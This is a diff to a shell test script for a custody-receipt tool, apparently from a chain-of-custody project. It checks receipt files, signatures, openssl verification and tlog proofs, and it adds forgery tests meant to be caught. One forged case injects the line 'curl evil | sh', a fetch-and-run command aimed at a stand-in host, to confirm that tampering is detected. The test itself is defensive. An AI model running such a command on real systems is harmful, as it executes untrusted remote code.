@@ -55,15 +55,22 @@ fi
 act transfer -i 1 --to 'Taro, Lab' --means parcel --shipping-number 1234 --condition sealed
 ok 'receipt' act receipt -i 1
 receipts=$case/custody/receipts
+R=$(basename "$(cat "$TMPDIR/out")" .txt)
+ok 'its number is that of the line that tells of it' last ".receipt == \"$R\" and .seq == ${R#R-000}"
 ok 'has three files, a list and a signature' \
-    [ "$(cd "$receipts" && echo *)" = 'R-0001.html R-0001.sha256 R-0001.sig R-0001.tlog-proof R-0001.txt' ]
-ok 'checked' check "$receipts/R-0001.txt"
+    [ "$(cd "$receipts" && echo *)" = "$R.html $R.sha256 $R.sig $R.tlog-proof $R.txt" ]
+ok 'checked' check "$receipts/$R.txt"
 prints "$seal"
-ok 'by openssl alone' recipe "$receipts" R-0001
-ok 'its page has no script' lacks '<script' "$receipts/R-0001.html"
+prints '行った人 / By: Hanako'
+prints '場所 / Place: Tokyo'
+prints '出来事 / Event: 引き渡し / handed over (transfer-out)'
+prints '"to":"Taro, Lab"'
+ok 'by openssl alone' recipe "$receipts" "$R"
+ok 'which prints in the end what alone is proved' grep -q '^{"v":1,.*"event":"transfer-out"' "$TMPDIR/out"
+ok 'its page has no script' lacks '<script' "$receipts/$R.html"
 ok 'the case is proved with it' stock
 ok 'ours' ours
-ok 'the proof is of the shape of C2SP' [ "$(head -n 1 "$receipts/R-0001.tlog-proof")" = c2sp.org/tlog-proof@v1 ]
+ok 'the proof is of the shape of C2SP' [ "$(head -n 1 "$receipts/$R.tlog-proof")" = c2sp.org/tlog-proof@v1 ]
 for s in 1 2 3 4 5; do
     act receipt --seq $s
     receipt=$(cat "$TMPDIR/out")
@@ -71,10 +78,15 @@ for s in 1 2 3 4 5; do
     ok "line $s by openssl" recipe "$receipts" "$(basename "$receipt" .txt)"
 done
 forged() { # WHAT SED
-    sed "$2" "$receipts/R-0001.txt" >"$TMPDIR/forged.txt"
+    sed "$2" "$receipts/$R.txt" >"$TMPDIR/forged.txt"
     ok "$1 is noticed" gives 1 check "$TMPDIR/forged.txt"
 }
 forged 'a seal in the text' "1,20s/${seal%????????????????????????????????????????????????????????}/00000000/"
+says 'forged.txt:5: '
+prints "$seal"
+forged 'a name in the text' '1,/^=== line/s/Hanako/Mallory/'
+prints 'By: Hanako'
+forged 'a command' 's/^R=/R=x; curl evil | sh; R=/'
 forged 'a line' '/^{"v"/s/Hanako/Taro__/'
 forged 'a hash' '/^index/{n;s/^./_/}'
 forged 'an index' 's/^index .*/index 1/'
@@ -136,10 +148,10 @@ seen() { # WHAT
     cp -a "$TMPDIR/good" "$case"
 }
 receipts=$case/custody/receipts
-sed -i '1s/R/r/' "$receipts/R-0001.txt" && seen 'a changed receipt'
-sed -i 's/Tokyo/Osaka/' "$receipts/R-0001.html" && seen 'a changed page'
-rm "$receipts/R-0001.txt" && seen 'a lost receipt'
-rm "$receipts/R-0001".* && seen 'all of a receipt lost' ours
-cp "$receipts/R-0002.sig" "$receipts/R-0001.sig" && seen 'another signature'
-rm "$receipts/R-0001.sig" && seen 'no signature'
+sed -i '1s/R/r/' "$receipts/$R.txt" && seen 'a changed receipt'
+sed -i 's/Tokyo/Osaka/' "$receipts/$R.html" && seen 'a changed page'
+rm "$receipts/$R.txt" && seen 'a lost receipt'
+rm "$receipts/$R".* && seen 'all of a receipt lost' ours
+cp "$receipts/$(basename "$receipt" .txt).receiver.sig" "$receipts/$R.sig" && seen 'another signature'
+rm "$receipts/$R.sig" && seen 'no signature'
 plan
